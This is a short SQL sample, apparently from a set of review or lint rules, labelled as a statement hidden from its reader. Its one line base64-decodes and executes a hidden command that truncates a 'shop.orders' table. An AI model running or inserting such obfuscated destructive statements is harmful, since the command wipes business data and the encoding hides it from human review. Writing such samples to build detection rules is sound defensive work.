-- Harm: the statement is hidden from who reads it.
-- Rule: unreadable

do $$ begin execute convert_from(decode('dHJ1bmNhdGUgc2hvcC5vcmRlcnM=', 'base64'), 'UTF8'); end $$;
